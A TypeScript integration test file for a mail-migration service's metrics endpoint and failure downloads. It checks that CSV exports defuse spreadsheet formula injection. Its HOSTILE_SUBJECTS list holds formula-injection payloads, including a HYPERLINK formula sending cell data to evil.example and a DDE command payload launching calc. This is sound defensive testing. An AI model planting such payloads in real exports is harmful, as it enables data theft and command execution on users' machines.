import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { sql } from 'kysely';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { WorkgroupMetrics } from '../../src/api/metrics/workgroup-metrics.ts';
import { type JobQueue, startJobQueue } from '../../src/db/job-queue.ts';
import { parseCsvRecords } from '../../src/domain/csv.ts';
import { type RunningM365Emulator, startM365Emulator } from '../../src/emulators/m365/server.ts';
import { startZimbraEmulator, type ZimbraEmulator } from '../../src/emulators/zimbra/server.ts';
import { MICROSOFT_LIMITS } from '../../src/graph/mailbox-budget.ts';
import { parseKeyRing } from '../../src/secrets/master-key.ts';
import { createSecretBox } from '../../src/secrets/secret-box.ts';
import { startMigrationWorkers } from '../../src/worker/migration-workers.ts';
import { buildTestApp } from '../support/build-test-app.ts';
import { loopbackOutbound } from '../support/loopback-outbound.ts';
import { createTestDatabase, type TestDatabase } from '../support/test-database.ts';
import { createWorkgroupWithAgents, type SignedInAgent } from './msp-fixtures.ts';

const TENANT = '6c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f';
const CLIENT = '7d2e3f4a-5b6c-4d7e-8f9a-0b1c2d3e4f5a';
const SOURCE = 'olga@zimbra.test';
const DESTINATION = 'olga@contoso.com';
/** Every subject is a formula a spreadsheet would run, whichever items the faults hit. */
const HOSTILE_SUBJECTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Open me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
];

/** The 2nd and 4th messages are larger than the destination mailbox takes: two failed items. */
function message(n: number, subject: string): string {
  const body = n % 2 === 0 ? `Body ${n} ${'x'.repeat(20_000)}` : `Body ${n}`;
  return `From: sender${n}@partner.test\r\nTo: ${SOURCE}\r\nSubject: ${subject}\r\nDate: Mon, 0${n} Sep 2024 08:00:00 +0000\r\n\r\n${body}\r\n`;
}

let dataDir: string;
let zimbra: ZimbraEmulator;
let m365: RunningM365Emulator;
let database: TestDatabase;
let queue: JobQueue;
let workers: Awaited<ReturnType<typeof startMigrationWorkers>>;
let app: Awaited<ReturnType<typeof buildTestApp>>['app'];
let admin: SignedInAgent;
let agent: SignedInAgent;
let otherAdmin: SignedInAgent;

beforeAll(async () => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'ferry-observability-'));
  writeFileSync(
    path.join(dataDir, 'server.json'),
    JSON.stringify({ admin: { name: 'admin@zimbra.test', password: 'admin-pw' } }),
  );
  const inbox = path.join(dataDir, 'accounts', SOURCE, 'mail', 'Inbox');
  mkdirSync(inbox, { recursive: true });
  HOSTILE_SUBJECTS.forEach((subject, i) =>
    writeFileSync(path.join(inbox, `${i + 1}.eml`), message(i + 1, subject)),
  );
  zimbra = await startZimbraEmulator({ dataDir });
  m365 = await startM365Emulator({
    config: {
      tenants: [
        {
          id: TENANT,
          domains: ['contoso.com'],
          region: 'EU',
          apps: [
            {
              clientId: CLIENT,
              secret: 'app-secret',
              permissions: ['Mail.ReadWrite', 'User.Read.All', 'MailboxSettings.ReadWrite'],
            },
          ],
          // Messages over 10 KB are refused for good (ErrorMessageSizeExceeded).
          users: [{ userPrincipalName: DESTINATION, mailbox: true, maxMessageSizeMB: 0.01 }],
        },
      ],
    },
  });
  database = await createTestDatabase();
  queue = await startJobQueue({ url: database.url, supervise: false, onError: () => undefined });
  workers = await startMigrationWorkers({
    db: database.db,
    sealer: createSecretBox(parseKeyRing(`test:${Buffer.alloc(32, 7).toString('base64')}`)),
    logger: pino({ level: 'silent' }),
    limits: MICROSOFT_LIMITS,
    outbound: loopbackOutbound(),
    maxMailboxes: 100,
  });
  ({ app } = await buildTestApp(database.db, { queue }));
  await app.listen({ host: '127.0.0.1', port: 0 });
  ({ administrator: admin, agent } = await createWorkgroupWithAgents(database.db, 'Observed MSP'));
  ({ administrator: otherAdmin } = await createWorkgroupWithAgents(database.db, 'Other MSP'));
}, 120_000);

afterAll(async () => {
  await app?.close();
  await workers?.stop();
  await queue?.stop({ graceful: false, close: true });
  await database?.close();
  await zimbra?.close();
  await m365?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

async function call<T = Record<string, unknown>>(
  method: 'GET' | 'POST' | 'PUT',
  url: string,
  payload?: unknown,
  expected = 200,
): Promise<T> {
  const response = await app.inject({
    method,
    url,
    headers: admin.headers,
    ...(payload === undefined ? {} : { payload: payload as object }),
  });
  expect(response.statusCode, `${method} ${url}: ${response.body}`).toBe(expected);
  return response.json<T>();
}

async function scrape(as: SignedInAgent = admin): Promise<string> {
  const response = await app.inject({ method: 'GET', url: '/api/metrics', headers: as.headers });
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toMatch(/^text\/plain; version=0\.0\.4/);
  return response.body;
}

/** The value of one series, or undefined when the scrape has none. */
function sample(text: string, name: string, labels: Record<string, string>): number | undefined {
  const wanted = Object.entries(labels).map(([k, v]) => `${k}="${v}"`);
  for (const line of text.split('\n')) {
    if (!line.startsWith(`${name}{`)) continue;
    const [series = '', value = ''] = line.split(/ (?=[^ ]+$)/);
    const inner = series.slice(name.length + 1, -1).split(',');
    if (wanted.every((w) => inner.includes(w)) && inner.length === wanted.length) return Number(value);
  }
  return undefined;
}

let projectId: string;
let mailboxId: string;

async function createProject(): Promise<void> {
  const customer = await call<{ id: string }>(
    'POST',
    '/api/customers',
    { companyName: 'Olga Shipping', primaryDomain: 'zimbra.test' },
    201,
  );
  const source = await call<{ id: string }>(
    'POST',
    '/api/endpoints',
    {
      kind: 'zimbra',
      name: 'Olga Zimbra',
      serverUrl: zimbra.url,
      adminUrl: zimbra.adminUrl,
      provideCredentials: true,
      adminUsername: 'admin@zimbra.test',
      adminPassword: 'admin-pw',
    },
    201,
  );
  const destination = await call<{ id: string }>(
    'POST',
    '/api/endpoints',
    {
      kind: 'm365',
      name: 'Contoso 365',
      applicationId: CLIENT,
      tenantId: TENANT,
      provideCredentials: true,
      clientSecret: 'app-secret',
      authorityUrl: m365.authorityUrl,
      graphUrl: m365.graphUrl,
    },
    201,
  );
  projectId = (
    await call<{ id: string }>(
      'POST',
      '/api/projects',
      {
        name: 'Olga to Contoso',
        customerId: customer.id,
        sourceEndpointId: source.id,
        destinationEndpointId: destination.id,
      },
      201,
    )
  ).id;
  await call('PUT', `/api/projects/${projectId}/options`, { itemTypes: ['mail'], logSubjects: true });
  mailboxId = (
    await call<{ id: string }>(
      'POST',
      `/api/projects/${projectId}/mailboxes`,
      { source: SOURCE, destination: DESTINATION },
      201,
    )
  ).id;
}

/** Runs a Trial pass, scraping the metrics while it runs; returns the scrapes taken. */
async function runTrialPass(): Promise<string[]> {
  await call('POST', `/api/projects/${projectId}/passes`, { pass: 'trial', mailboxIds: [mailboxId] }, 202);
  const scrapes: string[] = [];
  for (;;) {
    scrapes.push(await scrape());
    const mailbox = await call<{ status: string }>(
      'GET',
      `/api/projects/${projectId}/mailboxes/${mailboxId}`,
    );
    if (!['queued', 'running'].includes(mailbox.status)) return scrapes;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

describe('/api/metrics', () => {
  it('answers only an Administrator: 401 without credentials, 403 for an Agent', async () => {
    const anonymous = await app.inject({ method: 'GET', url: '/api/metrics' });
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.body).not.toContain('ferry_');
    const wrongToken = await app.inject({
      method: 'GET',
      url: '/api/metrics',
      headers: { authorization: 'Bearer fry_not-a-token' },
    });
    expect(wrongToken.statusCode).toBe(401);
    const asAgent = await app.inject({ method: 'GET', url: '/api/metrics', headers: agent.headers });
    expect(asAgent.statusCode).toBe(403);
    expect(asAgent.body).not.toContain('ferry_');
  });

  it('shows the counters of a pass moving, per project, to that project’s workgroup only', async () => {
    await createProject();
    const before = await scrape();
    expect(sample(before, 'ferry_mailboxes', { project: projectId, status: 'not_started' })).toBe(1);
    expect(sample(before, 'ferry_items_total', { project: projectId, outcome: 'migrated' })).toBeUndefined();

    const during = await runTrialPass();
    const recorded = during.map(
      (text) =>
        (sample(text, 'ferry_items_total', { project: projectId, outcome: 'migrated' }) ?? 0) +
        (sample(text, 'ferry_items_total', { project: projectId, outcome: 'failed' }) ?? 0),
    );
    expect(recorded).toEqual([...recorded].sort((a, b) => a - b));

    const after = await scrape();
    expect(sample(after, 'ferry_items_total', { project: projectId, outcome: 'migrated' })).toBe(3);
    expect(sample(after, 'ferry_items_total', { project: projectId, outcome: 'failed' })).toBe(2);
    expect(sample(after, 'ferry_migrated_bytes_total', { project: projectId })).toBeGreaterThan(0);
    expect(
      sample(after, 'ferry_item_failures_total', { project: projectId, code: 'MESSAGE_TOO_LARGE' }),
    ).toBe(2);
    expect(sample(after, 'ferry_throttled_seconds_total', { project: projectId })).toBeGreaterThanOrEqual(0);
    expect(sample(after, 'ferry_mailboxes', { project: projectId, status: 'completed_with_errors' })).toBe(1);
    expect(sample(after, 'ferry_mailboxes', { project: projectId, status: 'not_started' })).toBeUndefined();
    expect(sample(after, 'ferry_passes_running', { project: projectId })).toBeUndefined();
    expect(after).toMatch(/^ferry_queue_jobs\{queue="ferry\.health-ping",state="ready"\} \d+$/m);
    // No mailbox address and no failure message is ever a label.
    expect(after).not.toContain(SOURCE);
    expect(after).not.toContain('Microsoft Graph');

    const elsewhere = await scrape(otherAdmin);
    expect(elsewhere).not.toContain(projectId);
  });
});

describe('per-mailbox downloads', () => {
  const url = (what: string, format: string) =>
    `/api/projects/${projectId}/mailboxes/${mailboxId}/${what}?format=${format}`;

  it('gives every failure as CSV a spreadsheet opens, formulas defused', async () => {
    const response = await app.inject({ method: 'GET', url: url('failures', 'csv'), headers: admin.headers });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="olga@zimbra.test-failures.csv"',
    );
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsvRecords(response.body.slice(1)).map((r) => r.fields);
    expect(header).toEqual([
      'pass',
      'passCreatedAt',
      'itemType',
      'folder',
      'itemId',
      'sizeBytes',
      'code',
      'message',
      'subject',
    ]);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      expect(row[8]?.startsWith("'")).toBe(true);
      expect(HOSTILE_SUBJECTS).toContain(row[8]?.slice(1));
    }
    expect(rows.every((r) => r[0] === 'trial' && r[6] === 'MESSAGE_TOO_LARGE' && r[3] === 'Inbox')).toBe(
      true,
    );
  });

  it('gives the failures as JSON Lines, one parseable object per failure, no subject once logging is off', async () => {
    await call('PUT', `/api/projects/${projectId}/options`, { logSubjects: false });
    const response = await app.inject({
      method: 'GET',
      url: url('failures', 'jsonl'),
      headers: admin.headers,
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = response.body.trimEnd().split('\n');
    const failures = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(failures).toHaveLength(2);
    for (const failure of failures) {
      expect(failure).toMatchObject({ pass: 'trial', itemType: 'mail', code: 'MESSAGE_TOO_LARGE' });
      expect(failure).not.toHaveProperty('subject');
      expect(typeof failure.sizeBytes).toBe('number');
    }
    await call('PUT', `/api/projects/${projectId}/options`, { logSubjects: true });
  });

  it('gives the mailbox log: the pass with its counts and the folders it planned', async () => {
    const jsonl = await app.inject({ method: 'GET', url: url('log', 'jsonl'), headers: admin.headers });
    const entries = jsonl.body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(entries[0]).toMatchObject({
      event: 'pass',
      pass: 'trial',
      status: 'completed_with_errors',
      migrated: 3,
      failed: 2,
    });
    expect(entries[0]?.startedAt).toEqual(expect.any(String));
    expect(entries.slice(1)).toContainEqual(
      expect.objectContaining({ event: 'folder', folder: 'Inbox', sourceItems: 5, migrated: 3, failed: 2 }),
    );

    const csv = await app.inject({ method: 'GET', url: url('log', 'csv'), headers: admin.headers });
    const records = parseCsvRecords(csv.body.slice(1)).map((r) => r.fields);
    expect(records).toHaveLength(entries.length + 1);
    expect(records[1]?.slice(0, 2)).toEqual(['pass', 'trial']);
  });

  it('refuses a bad format with 400, and another workgroup with 404', async () => {
    const bad = await app.inject({ method: 'GET', url: url('failures', 'xlsx'), headers: admin.headers });
    expect(bad.statusCode).toBe(400);
    const foreign = await app.inject({
      method: 'GET',
      url: url('failures', 'csv'),
      headers: otherAdmin.headers,
    });
    expect(foreign.statusCode).toBe(404);
  });
});

const BIN = path.resolve(import.meta.dirname, '../../bin/ferry.js');

function ferry(args: string[]) {
  const env = {
    PATH: process.env.PATH ?? '',
    HOME: dataDir,
    FERRY_URL: `http://127.0.0.1:${(app.server.address() as { port: number }).port}`,
    FERRY_TOKEN: admin.headers.authorization.slice('Bearer '.length),
    LOG_LEVEL: 'warn',
  };
  return new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
    const child = spawn(process.execPath, [BIN, ...args], { env });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

describe('ferry mailboxes failures | log', () => {
  it(
    'downloads the same CSV and JSONL as the console, to standard output or a file',
    { timeout: 60_000 },
    async () => {
      const csv = await ferry(['mailboxes', 'failures', projectId, SOURCE]);
      expect(csv.status, csv.stderr).toBe(0);
      const [header, ...rows] = parseCsvRecords(csv.stdout.replace(/^\uFEFF/, '')).map((r) => r.fields);
      expect(header?.at(-1)).toBe('subject');
      expect(rows).toHaveLength(2);
      expect(rows.every((r) => r[8]?.startsWith("'"))).toBe(true);

      const out = path.join(dataDir, 'olga-log.jsonl');
      const log = await ferry(['mailboxes', 'log', projectId, SOURCE, '--format', 'jsonl', '--out', out]);
      expect(log.status, log.stderr).toBe(0);
      const entries = readFileSync(out, 'utf8')
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as { event: string });
      expect(entries[0]).toMatchObject({ event: 'pass', pass: 'trial' });

      const bad = await ferry(['mailboxes', 'failures', projectId, SOURCE, '--format', 'xlsx']);
      expect(bad.status).toBe(2);
      expect(bad.stderr).toMatch(/csv, jsonl/);
    },
  );
});

describe('metrics at scale', () => {
  it('reads a finished mailbox’s items once they can no longer change, and again once it runs', async () => {
    const metrics = new WorkgroupMetrics(database.db, undefined);
    const { run_mailbox_id: runMailboxId } = await database.db
      .selectFrom('project_run_mailboxes')
      .select('run_mailbox_id')
      .where('project_mailbox_id', '=', mailboxId)
      .executeTakeFirstOrThrow();
    const { finished_at } = await database.db
      .selectFrom('run_mailboxes')
      .select('finished_at')
      .where('id', '=', runMailboxId)
      .executeTakeFirstOrThrow();
    const lateFailure = (id: string) =>
      database.db
        .insertInto('run_items')
        .values({
          run_mailbox_id: runMailboxId,
          source_item_id: id,
          item_type: 'mail',
          source_folder_id: '2',
          outcome: 'failed',
          bytes: 0,
          code: 'LATE_FAILURE',
          message: 'late',
        })
        .execute();
    const late = async (minutesAfterFinish: number) => {
      const now = new Date(finished_at!.getTime() + minutesAfterFinish * 60_000);
      const { body } = await metrics.scrape(admin.agent.workgroupId, now);
      return sample(body, 'ferry_item_failures_total', { project: projectId, code: 'LATE_FAILURE' });
    };

    // A page job may still be writing for a while after the mailbox finished: read every scrape.
    await lateFailure('late-1');
    expect(await late(1)).toBe(1);
    // Settled: read once more, then kept.
    expect(await late(20)).toBe(1);
    await lateFailure('late-2');
    expect(await late(20)).toBe(1);

    // Running again (a status the cache cannot keep): read at once, and counted as a running pass.
    await database.db
      .updateTable('run_mailboxes')
      .set({ status: 'running' })
      .where('id', '=', runMailboxId)
      .execute();
    await database.db
      .updateTable('project_passes')
      .set({ launched_at: new Date() })
      .where('launched_at', 'is', null)
      .execute();
    expect(await late(20)).toBe(2);
    const { body } = await metrics.scrape(admin.agent.workgroupId);
    expect(sample(body, 'ferry_passes_running', { project: projectId })).toBe(1);
  });
});

describe('large downloads', () => {
  it('streams thousands of failures page by page, each exactly once', async () => {
    const { run_mailbox_id: runMailboxId } = await database.db
      .selectFrom('project_run_mailboxes')
      .select('run_mailbox_id')
      .where('project_mailbox_id', '=', mailboxId)
      .executeTakeFirstOrThrow();
    await sql`
      insert into run_items (run_mailbox_id, source_item_id, item_type, source_folder_id, outcome, bytes, code, message)
      select ${runMailboxId}, 'bulk-' || n, 'mail', '2', 'failed', n, 'MIME_UNREADABLE', 'line one' || chr(10) || 'line, two'
      from generate_series(1, 2500) n
    `.execute(database.db);
    const { n } = await database.db
      .selectFrom('run_items')
      .select(sql<string>`count(*)`.as('n'))
      .where('run_mailbox_id', '=', runMailboxId)
      .where('outcome', '=', 'failed')
      .executeTakeFirstOrThrow();

    const jsonl = await app.inject({
      method: 'GET',
      url: `/api/projects/${projectId}/mailboxes/${mailboxId}/failures?format=jsonl`,
      headers: admin.headers,
    });
    const ids = jsonl.body
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as { itemId: string }).itemId);
    expect(ids).toHaveLength(Number(n));
    expect(new Set(ids).size).toBe(ids.length);

    const csv = await app.inject({
      method: 'GET',
      url: `/api/projects/${projectId}/mailboxes/${mailboxId}/failures?format=csv`,
      headers: admin.headers,
    });
    const rows = parseCsvRecords(csv.body.slice(1)).map((r) => r.fields);
    expect(rows).toHaveLength(Number(n) + 1);
    expect(rows.find((r) => r[4] === 'bulk-7')?.[7]).toBe('line one\nline, two');
  });
});
